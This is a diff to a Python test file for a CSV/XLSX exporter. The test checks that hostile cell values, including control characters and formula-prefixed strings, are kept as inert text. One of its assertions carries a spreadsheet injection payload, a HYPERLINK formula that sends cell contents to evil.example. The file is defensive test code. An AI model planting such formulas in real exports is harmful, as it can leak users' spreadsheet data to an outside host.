@@ -27,6 +27,8 @@ HOSTILE = [
     ("\tTAB-1", "\rCR title"),
     ("BELL\x07SKU", "form\x0cfeed"),
     ("ODD\uffffSKU", "title \ufffe end"),
+    # A carriage return inside a cell: quoted, or a reader would start a new row there.
+    ("MID-CR", "line one\rline two"),
 ]
 
 
@@ -74,7 +76,7 @@ def test_csv_text_cells_never_start_a_formula_and_amounts_stay_plain(
     keys = {row[0] for row in body}
     assert '\'=HYPERLINK("https://evil.example/?"&A1,"x")' in keys
     assert "'-2+3" in keys and "'+SUM(1,2)" in keys and "'@SUM(A1)" in keys
-    assert rows[-1][0] == "TOTAL" and rows[-1][2] == "70.00"
+    assert rows[-1][0] == "TOTAL" and rows[-1][2] == f"{10 * len(HOSTILE)}.00"
 
 
 def test_xlsx_keeps_hostile_text_as_text_and_opens(
